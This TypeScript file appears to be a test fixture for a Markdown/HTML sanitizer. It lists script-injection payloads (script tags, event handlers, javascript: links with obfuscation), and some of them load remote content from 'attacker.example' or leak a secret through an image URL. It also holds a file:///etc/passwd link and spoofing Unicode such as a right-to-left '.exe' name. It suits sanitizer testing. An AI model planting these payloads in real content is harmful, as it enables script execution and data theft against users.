// Texts that want a page to do something: run a script, ask another server, look like something else.

const elsewhere = 'https://attacker.example';

export const payloads: readonly string[] = [
  `<script>alert(1)</script>`,
  `<script src="${elsewhere}/x.js"></script>`,
  `<img src="${elsewhere}/pixel.png">`,
  `<img src=x onerror=alert(1)>`,
  `<svg onload=alert(1)></svg>`,
  `<svg><use href="${elsewhere}/x.svg#a"/></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="${elsewhere}/x.swf"></object>`,
  `<embed src="${elsewhere}/x.swf">`,
  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
  `<style>@import url(${elsewhere}/x.css); body { display: none }</style>`,
  `<div style="background: url(${elsewhere}/x.png)">text</div>`,
  `<meta http-equiv="refresh" content="0; url=${elsewhere}">`,
  `<base href="${elsewhere}/">`,
  `<form action="${elsewhere}"><input name=token autofocus onfocus=alert(1)><button>Allow once</button></form>`,
  `<video poster="${elsewhere}/x.png" src="${elsewhere}/x.mp4" autoplay></video>`,
  `<audio src="${elsewhere}/x.mp3" autoplay></audio>`,
  `<a href="javascript:alert(1)">press me</a>`,
  `<body onload=alert(1)>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<template><img src=x onerror=alert(1)></template>`,
  `![picture](${elsewhere}/pixel.png?secret=1)`,
  `![](javascript:alert(1))`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[press me](javascript:alert(1))`,
  `[press me](JaVaScRiPt:alert(1))`,
  `[press me](java&#115;cript:alert(1))`,
  `[press me](java\tscript:alert(1))`,
  `[press me](\u0001javascript:alert(1))`,
  `[press me](vbscript:msgbox(1))`,
  `[press me](data:text/html,<script>alert(1)</script>)`,
  `[press me](file:///etc/passwd)`,
  `[press me](//attacker.example/x)`,
  `[press me](${elsewhere} "title\\" onmouseover=alert(1)")`,
  `[ref]: javascript:alert(1)\n\n[press me][ref]`,
  `[![nested](${elsewhere}/a.png)](javascript:alert(1))`,
  `<javascript:alert(1)>`,
  `<${elsewhere}/auto>`,
  `${elsewhere}/bare`,
  `\`<img src=x onerror=alert(1)>\``,
  `pay\u202Egpj.exe`,
  `zero\u200Bwidth\u2060joined\uFEFF`,
  `\u{E0041}\u{E0042}tags`,
  `bell\u0007 escape\u001b[31mred\u001b[0m null`,
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `<!--><img src=x onerror=alert(1)>-->`,
];

const wrappers: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `> quoted ${payload}`,
  (payload) => `- item ${payload}\n  - below ${payload}`,
  (payload) => `| head |\n|---|\n| ${payload.replaceAll('|', '\\|').replaceAll('\n', ' ')} |`,
  (payload) => `**bold ${payload}** and _${payload}_`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\``,
];

/** Every payload in every wrapper. */
export function wrapped(texts: readonly string[]): string[] {
  return wrappers.flatMap((wrap) => texts.map(wrap));
}

/** Every payload in one wrapper, and every wrapper in turn. */
export function wrappedOnce(texts: readonly string[]): string[] {
  return texts.map((text, at) => (wrappers[(at + 1) % wrappers.length] ?? String)(text));
}
